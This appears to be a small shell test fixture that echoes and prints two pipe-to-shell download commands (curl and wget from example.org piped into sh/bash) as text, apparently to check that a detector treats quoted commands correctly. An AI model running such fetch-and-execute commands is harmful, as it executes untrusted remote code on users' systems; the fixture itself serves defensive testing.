# expect: nothing
echo "Do not run: curl https://example.org/i.sh | sh"
printf '%s\n' 'wget -qO- https://example.org | bash'
